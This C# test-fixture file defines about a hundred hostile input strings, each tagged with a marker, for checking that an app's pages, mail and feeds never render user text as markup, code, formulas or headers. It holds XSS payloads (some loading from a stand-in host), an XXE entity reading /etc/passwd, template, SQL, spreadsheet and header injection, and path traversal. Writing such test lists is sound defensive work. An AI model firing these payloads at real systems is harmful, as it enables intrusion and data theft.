namespace Scenarios.Pages.Hostile;

/// <summary>What people may write, and what would do harm where it became markup, code, a formula or a header.</summary>
internal static class HostileTexts
{
    /// <summary>In each of them: no element, attribute or address of a page, mail or feed has it.</summary>
    public const string Mark = "zq7x9kw";

    /// <summary>A hundred; each is one line that the app takes as it is.</summary>
    public static readonly IReadOnlyList<string> All =
    [
        "<script>zq7x9kw()</script>",
        "<ScRiPt src=//zq7x9kw.example/x.js></sCrIpT>",
        "<img src=x onerror=zq7x9kw()>",
        "<svg onload=zq7x9kw()>",
        "<svg><script>zq7x9kw()</script></svg>",
        "<body onload=zq7x9kw()>",
        "<iframe src=\"javascript:zq7x9kw()\"></iframe>",
        "<iframe srcdoc=\"<script>zq7x9kw()</script>\">",
        "<a href=\"javascript:zq7x9kw()\">x</a>",
        "<details open ontoggle=zq7x9kw()>",
        "<input autofocus onfocus=zq7x9kw()>",
        "<video><source onerror=zq7x9kw()>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=zq7x9kw()>",
        "<object data=\"data:text/html,zq7x9kw\">",
        "<embed src=\"//zq7x9kw.example\">",
        "<link rel=stylesheet href=//zq7x9kw.example/a.css>",
        "<style>@import \"//zq7x9kw.example/a.css\";</style>",
        "<base href=\"//zq7x9kw.example/\">",
        "<meta http-equiv=refresh content=\"0;url=//zq7x9kw.example\">",
        "<form action=\"//zq7x9kw.example\"><button>x</button>",
        "<button formaction=\"//zq7x9kw.example\">x",
        "<marquee onstart=zq7x9kw()>x</marquee>",
        "<template><img onerror=zq7x9kw()></template>",
        "<noscript><img src=x onerror=zq7x9kw()></noscript>",
        "<zq7x9kw onclick=1>x</zq7x9kw>",
        "<x-zq7x9kw contenteditable onblur=zq7x9kw()>",
        "<img src=\"//zq7x9kw.example/pixel\">",
        "<div style=\"background:url(//zq7x9kw.example)\">",
        "<table background=\"//zq7x9kw.example\">",
        "<audio src onerror=zq7x9kw()>",
        "\" onmouseover=\"zq7x9kw()",
        "' onmouseover='zq7x9kw()",
        "\"><script>zq7x9kw()</script>",
        "'><script>zq7x9kw()</script>",
        "\"/><img src=x onerror=zq7x9kw()>",
        "` onclick=zq7x9kw() `",
        "</title><script>zq7x9kw()</script>",
        "</textarea><script>zq7x9kw()</script>",
        "</option></select><img onerror=zq7x9kw() src>",
        "</script><script>zq7x9kw()</script>",
        "</style><img src onerror=zq7x9kw()>",
        "--><script>zq7x9kw()</script><!--",
        "]]><script>zq7x9kw()</script>",
        "<![CDATA[<script>zq7x9kw()</script>]]>",
        "<!--<img src=\"--><img src=x onerror=zq7x9kw()//\">",
        "<?xml version=\"1.0\"?><zq7x9kw/>",
        "<!DOCTYPE zq7x9kw [<!ENTITY zq7x9kw SYSTEM \"file:///etc/passwd\">]>",
        "&zq7x9kw;",
        "&lt;script&gt;zq7x9kw()&lt;/script&gt;",
        "&#60;script&#62;zq7x9kw()&#60;/script&#62;",
        "&#x3C;img src=x onerror=zq7x9kw()&#x3E;",
        "&amp;lt;zq7x9kw&amp;gt;",
        "\\u003cscript\\u003ezq7x9kw()",
        "%3Cscript%3Ezq7x9kw()%3C/script%3E",
        "%253Cscript%253Ezq7x9kw",
        "+ADw-script+AD4-zq7x9kw()+ADw-/script+AD4-",
        "＜script＞zq7x9kw()＜/script＞",
        "<scr<script>ipt>zq7x9kw()</scr</script>ipt>",
        "<<script>zq7x9kw()//<</script>",
        "<img/src=x/onerror=zq7x9kw()>",
        "{{7*7}}zq7x9kw",
        "${7*7}zq7x9kw",
        "#{7*7}zq7x9kw",
        "<%= 7*7 %>zq7x9kw",
        "@Model.zq7x9kw",
        "@(7*7)zq7x9kw",
        "@{ zq7x9kw }",
        "{% zq7x9kw %}",
        "[[zq7x9kw]]",
        "{0} {1} {title} {zq7x9kw}",
        "'; zq7x9kw(); //",
        "\"; zq7x9kw(); //",
        "javascript:zq7x9kw()",
        "data:text/html,<script>zq7x9kw()</script>",
        "//zq7x9kw.example/",
        "[x](javascript:zq7x9kw())",
        "![x](//zq7x9kw.example/y)",
        "=HYPERLINK(\"//zq7x9kw.example\",\"x\")",
        "+cmd|zq7x9kw",
        "@SUM(zq7x9kw)",
        "-1+zq7x9kw",
        "%0d%0aSet-Cookie: zq7x9kw=1",
        "\\r\\nBcc: a@zq7x9kw.example",
        "=?utf-8?B?zq7x9kw?=",
        "'; DROP TABLE zq7x9kw; --",
        "' or PartitionKey ne 'zq7x9kw",
        "$filter=true zq7x9kw",
        "../../zq7x9kw",
        "..\\..\\zq7x9kw",
        "C:\\zq7x9kw.exe",
        "zq7x9kw…“‘«»’”",
        "zq7x9kw é ñ 中文 漢字 한국어 العربية עברית",
        "zq7x9kw 😀👨‍👩‍👧‍👦🏳️‍🌈",
        "zq7x9kw <3 & \"co\" 'x' > y",
        "a < b && c > d || zq7x9kw",
        "zq7x9kw&nbsp;&copy;&bogus;",
        "Z̷̢͝a̸l̷g̵o̴ zq7x9kw",
        "zq7x9kw  　x",
        "zq7x9kwWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
        "(zq7x9kw) [x] {y} <z>",
    ];

    /// <summary>In pieces of several texts, each as long as a field allows.</summary>
    public static IReadOnlyList<string> Chunks(int length)
    {
        var chunks = new List<string> { All[0] };
        foreach (var text in All.Skip(1))
        {
            if (chunks[^1].Length + 3 + text.Length <= length) chunks[^1] = $"{chunks[^1]} | {text}";
            else chunks.Add(text);
        }

        return chunks;
    }
}
